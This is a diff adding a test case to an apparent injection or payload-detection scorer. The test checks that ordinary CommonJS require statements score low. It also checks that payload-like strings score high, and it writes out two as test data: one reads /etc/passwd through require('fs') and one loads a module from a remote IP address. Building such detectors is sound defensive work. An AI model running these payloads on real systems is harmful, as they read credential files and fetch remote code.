@@ -154,6 +154,21 @@ describe("code family", () => {
     }
   })
 
+  it("passes a CommonJS import assigned to a name, as Node READMEs and snippets write it", () => {
+    for (const value of [
+      "const colors = require('@colors/colors');\nconsole.log('hello'.green)",
+      "const { trace } = require(\"@opentelemetry/api\");",
+      "var ui = require('./lib/ui')",
+      "cliui = require('cliui')"
+    ]) {
+      expect(score(value, 1), value).toBeLessThan(5)
+    }
+    // what a payload does with the module, or a path, URL or wrapper, still counts
+    for (const value of ["x = require('fs').readFileSync('/etc/passwd')", "a = require('http://203.0.113.9/s.txt')", "require('fs')"]) {
+      expect(score(value, 1), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
   it("keeps bare constructor chains and Perl interpolation for level 2", () => {
     for (const value of ["x.constructor.constructor", "@{[ uc 'x' ]}"]) {
       expect(score(value, 1), value).toBeLessThan(5)
